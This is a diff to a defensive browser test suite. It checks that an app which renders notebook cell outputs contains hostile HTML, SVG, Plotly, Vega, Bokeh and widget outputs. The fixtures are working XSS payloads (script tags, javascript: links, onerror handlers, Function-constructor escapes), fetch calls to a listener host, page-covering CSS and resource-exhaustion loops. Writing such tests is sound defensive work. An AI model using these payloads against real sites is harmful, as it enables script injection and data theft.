@@ -1,4 +1,5 @@
 /** Outputs are hostile: whatever a cell shows must reach neither the page, nor the app's API, nor a network. */
+import type { Page } from 'playwright-core';
 import { expect, onTestFinished, test } from 'vitest';
 import { startApp } from '../helpers/app.ts';
 import { openPage, unfoldWork } from '../helpers/browser.ts';
@@ -30,13 +31,112 @@ Promise.allSettled(tries.map(async (attempt) => attempt())).then(() => {
 const ANSWER = (host: string) =>
   `Done. ![chart](http://${host}/markdown?data=1) <img src="http://${host}/raw"> [click](javascript:alert(1))`;
 
-test('hostile outputs reach nothing', async () => {
-  const foreign = await startListenerServer();
-  const code = `from IPython.display import HTML, SVG, display
-display(HTML('''${QUIET_HTML(foreign.host)}'''))
-display(SVG('''<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><script>parent.pwned = 1</script><image href="http://${foreign.host}/svg-image"/><rect width="40" height="40"/></svg>'''))
-display(HTML('''${PROGRAM_HTML(foreign.host)}'''))`;
-  const model = await startModelServer([`\`\`\`python\n${code}\n\`\`\``, ANSWER(foreign.host)]);
+/** Styles that would cover the page, and links that run something, in the outputs the page draws itself. */
+const COVERING_HTML = `<style>html, body, div { position: fixed !important; inset: 0 !important; z-index: 2147483647 !important; width: 100vw; height: 100vh; background: red !important }</style>
+<div class="cover" style="position:fixed;inset:0;z-index:2147483647">cover</div><a href="javascript:parent.pwned = 1">run</a>`;
+
+const HOSTILE_FIGURE = (host: string) => ({
+  data: [
+    {
+      type: 'scatter',
+      x: [1],
+      y: [1],
+      text: `<a href="javascript:parent.pwned=1">t</a><script>parent.pwned=1</script>`,
+      mode: 'text',
+    },
+    { type: 'scattermap', lat: [1], lon: [1] },
+    { type: 'scattergeo', lat: [1], lon: [1], geo: 'geo' },
+    { type: 'image', source: `http://${host}/plotly-trace` },
+  ],
+  layout: {
+    title: {
+      text: `<a href="http://${host}/plotly-link" target="_top">hostile figure</a><img src=x onerror=parent.pwned=1>`,
+    },
+    images: [{ source: `http://${host}/plotly-image`, x: 0, y: 1, sizex: 1, sizey: 1 }],
+    map: { style: `http://${host}/plotly-style` },
+    __proto__polluted: { constructor: { prototype: { polluted: 1 } } },
+  },
+  config: {
+    plotlyServerURL: `http://${host}/plotly-server`,
+    topojsonURL: `http://${host}/topojson/`,
+    showSendToCloud: true,
+  },
+});
+
+const HOSTILE_VEGA = (host: string) => ({
+  width: 100,
+  height: 100,
+  title: 'hostile vega',
+  data: [{ name: 't', values: [{}] }],
+  signals: [
+    { name: 'a', update: `[].constructor.constructor('parent.pwned = 1')()` },
+    { name: 'b', update: `data('t').constructor.constructor('parent.pwned = 1')()` },
+  ],
+  marks: [
+    {
+      type: 'image',
+      from: { data: 't' },
+      encode: {
+        enter: { url: { value: `http://${host}/vega-image` }, width: { value: 9 }, height: { value: 9 } },
+      },
+    },
+    {
+      type: 'rect',
+      from: { data: 't' },
+      encode: {
+        enter: {
+          href: { value: 'javascript:parent.pwned=1' },
+          tooltip: { value: `<img src=http://${host}/tip>` },
+        },
+      },
+    },
+  ],
+  usermeta: {
+    embedOptions: {
+      ast: false,
+      actions: true,
+      patch: `http://${host}/vega-patch`,
+      config: `http://${host}/vega-config`,
+      sourceHeader: '<script>parent.pwned=1</script>',
+    },
+  },
+});
+
+const HOSTILE_BOKEH = (host: string) => {
+  const div = {
+    type: 'object',
+    name: 'Div',
+    id: 'p1',
+    attributes: {
+      render_as_text: false,
+      text: `hostile bokeh <img src="http://${host}/bokeh" onerror="parent.pwned=1"><script>parent.pwned=1</script>`,
+      stylesheets: [`@import "http://${host}/bokeh-css"`],
+    },
+  };
+  const script = {
+    type: 'object',
+    name: 'CustomJS',
+    id: 'p2',
+    attributes: { code: `parent.pwned = 1; fetch('http://${host}/bokeh-js')` },
+  };
+  const callbacks = { type: 'map', entries: [['document_ready', [script]]] };
+  const docs = { d: { version: '3.9.2', title: '', roots: [div], callbacks } };
+  return `parent.pwned = 1; fetch('http://${host}/bokeh-program');
+  const docs_json = ${JSON.stringify(docs)};
+  const render_items = [{"docid":"d","roots":{"p1":"x"},"root_ids":["p1"]}];
+`;
+};
+
+const HOSTILE_WIDGET = (host: string) =>
+  `import comm
+model = comm.create_comm(target_name='jupyter.widget', data={'state': {'_model_name': 'HTMLModel', '_model_module': 'http://${host}/module', 'value': '<i>hostile widget</i><img src="http://${host}/widget" onerror="parent.pwned=1"><link rel="preconnect" href="http://${host}">'}, 'buffer_paths': []}, metadata={})
+display({'application/vnd.jupyter.widget-view+json': {'version_major': 2, 'version_minor': 0, 'model_id': model.comm_id}}, raw=True)`;
+
+const show = (bundle: Record<string, unknown>) =>
+  `display(json.loads(${JSON.stringify(JSON.stringify(bundle))}), raw=True)`;
+
+async function attack(code: string, answer: string) {
+  const model = await startModelServer([`\`\`\`python\n${code}\n\`\`\``, answer]);
   onTestFinished(() => model.close());
   const app = await startApp({ env: { OPENAI_BASE_URL: model.baseUrl, ACTBOOK_MODEL: 'scripted' } });
   const page = await openPage();
@@ -46,6 +146,29 @@ display(HTML('''${PROGRAM_HTML(foreign.host)}'''))`;
   await page.keyboard.press('Enter');
   await page.locator('[data-outcome="answered"]').waitFor();
   await unfoldWork(page);
+  return { app, page };
+}
+
+/** What no output may have done. */
+async function expectUnharmed(page: Page, url: string): Promise<void> {
+  expect(page.url()).toBe(url);
+  expect(page.context().pages()).toHaveLength(1);
+  expect(await page.evaluate(() => [Reflect.get(globalThis, 'pwned'), document.title === 'pwned'])).toEqual([
+    undefined,
+    false,
+  ]);
+  const task = page.getByRole('textbox', { name: 'Task' });
+  await task.fill('still here');
+  expect(await task.inputValue()).toBe('still here');
+}
+
+test('hostile outputs reach nothing', async () => {
+  const foreign = await startListenerServer();
+  const code = `from IPython.display import HTML, SVG, display
+display(HTML('''${QUIET_HTML(foreign.host)}'''))
+display(SVG('''<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><script>parent.pwned = 1</script><image href="http://${foreign.host}/svg-image"/><rect width="40" height="40"/></svg>'''))
+display(HTML('''${PROGRAM_HTML(foreign.host)}'''))`;
+  const { app, page } = await attack(code, ANSWER(foreign.host));
   const url = page.url();
 
   const quiet = page.frameLocator('iframe[src="/frame/index.html"]');
@@ -53,7 +176,7 @@ display(HTML('''${PROGRAM_HTML(foreign.host)}'''))`;
   expect(
     await quiet.locator('link, meta[http-equiv], base, form, script:not([src^="/frame/"]), a[href]').count(),
   ).toBe(0);
-  expect(await page.locator('iframe[src="/frame/active.html"]').count()).toBe(0);
+  expect(await page.locator('iframe[src$="/frame/active.html"]').count()).toBe(0);
   expect(foreign.contacts).toEqual([]);
 
   await page.getByRole('button', { name: 'Run it' }).click();
@@ -62,14 +185,89 @@ display(HTML('''${PROGRAM_HTML(foreign.host)}'''))`;
 
   // Chromium may connect ahead of a navigation that is then refused; nothing is sent over it.
   expect(foreign.contacts.filter((firstLine) => firstLine !== '')).toEqual([]);
-  expect(page.url()).toBe(url);
-  expect(page.context().pages()).toHaveLength(1);
-  expect(await page.evaluate(() => [Reflect.get(globalThis, 'pwned'), document.title === 'pwned'])).toEqual([
-    undefined,
-    false,
-  ]);
+  await expectUnharmed(page, url);
   const { sessions } = await (await app.request('/api/sessions')).json();
   expect(sessions).toHaveLength(1);
   const answer = page.getByRole('region', { name: 'Answer' });
   expect(await answer.locator('img, a').count()).toBe(0);
+});
+
+test('charts, widgets and styles of an attacker run nothing, load nothing and cover nothing', async () => {
+  const foreign = await startListenerServer();
+  const { host } = foreign;
+  const { page } = await attack(
+    [
+      'import json',
+      show({ 'text/html': COVERING_HTML }),
+      show({ 'application/vnd.plotly.v1+json': HOSTILE_FIGURE(host) }),
+      show({ 'application/vnd.vega.v5+json': HOSTILE_VEGA(host) }),
+      show({
+        'application/vnd.vegalite.v5+json': {
+          data: { url: `http://${host}/data.csv` },
+          mark: 'bar',
+          encoding: {},
+        },
+      }),
+      show({ 'application/vnd.bokehjs_exec.v0+json': '', 'application/javascript': HOSTILE_BOKEH(host) }),
+      show({ 'application/javascript': `parent.pwned = 1; fetch('http://${host}/javascript')` }),
+      show({
+        'text/html': `<iframe srcdoc="<script>top.pwned = 1; fetch('http://${host}/nested')</script>"></iframe>`,
+      }),
+      show({ 'text/markdown': `[run](javascript:parent.pwned=1) ![](http://${host}/markdown)` }),
+      HOSTILE_WIDGET(host),
+    ].join('\n'),
+    'Done.',
+  );
+  const url = page.url();
+  const cells = page.getByRole('region', { name: /^Code cell/ });
+  for (const chart of await cells.locator('[data-viewer]').all()) {
+    await chart.scrollIntoViewIfNeeded();
+    // Drawn, or refused with a sentence: either way its code has had its turn.
+    await chart.locator('iframe[data-drawn="true"], [role="note"]').first().waitFor({ state: 'attached' });
+  }
+  await cells.locator('[data-viewer="bokeh"]').frameLocator('iframe').getByText('hostile bokeh').waitFor();
+  await cells.locator('[data-viewer="widgets"]').frameLocator('iframe').getByText('hostile widget').waitFor();
+  await cells.frameLocator('iframe[src="/frame/index.html"]').getByText('cover').waitFor();
+
+  expect(foreign.contacts).toEqual([]);
+  const isCovered = await page.evaluate(() => document.elementFromPoint(5, 5)?.tagName === 'IFRAME');
+  expect(isCovered).toBe(false);
+  await expectUnharmed(page, url);
+});
+
+test('programs that never end, floods of messages and huge values leave the page usable', async () => {
+  const { page } = await attack(
+    [
+      'import json',
+      show({
+        'text/html': `<script>for (;;) parent.postMessage({ kind: 'height', height: Math.random() * 1e9 }, '*')</script>`,
+      }),
+      show({ 'text/html': `<script>for (;;);</script>` }),
+      `display({'text/html': '<p>' + 'x' * 50_000_000}, raw=True)`,
+      `display({'text/plain': 'y' * 50_000_000}, raw=True)`,
+    ].join('\n'),
+    'Done.',
+  );
+  const url = page.url();
+  await page.getByText('too long to show').waitFor();
+  await page.getByRole('button', { name: 'Run it' }).first().click();
+  await page.getByText('This output sent the page too many messages and was closed.').waitFor();
+  await expectUnharmed(page, url);
+  await page.getByRole('button', { name: 'Run it' }).click();
+  await page.locator('iframe[src$="/frame/active.html"]').waitFor();
+  await expectUnharmed(page, url);
+});
+
+test('a cell that prints without end can be watched and stopped', async () => {
+  const model = await startModelServer(['```python\nwhile True: print("flood " * 50)\n```']);
+  onTestFinished(() => model.close());
+  const app = await startApp({ env: { OPENAI_BASE_URL: model.baseUrl, ACTBOOK_MODEL: 'scripted' } });
+  const page = await openPage();
+  await page.goto(app.loginUrl);
+  await page.getByRole('textbox', { name: 'Task' }).fill('Attack');
+  await page.keyboard.press('Enter');
+  await page.getByText('flood flood').first().waitFor();
+  await page.getByRole('button', { name: 'Stop' }).click();
+  await page.locator('[data-outcome]').waitFor();
+  await expectUnharmed(page, page.url());
 });
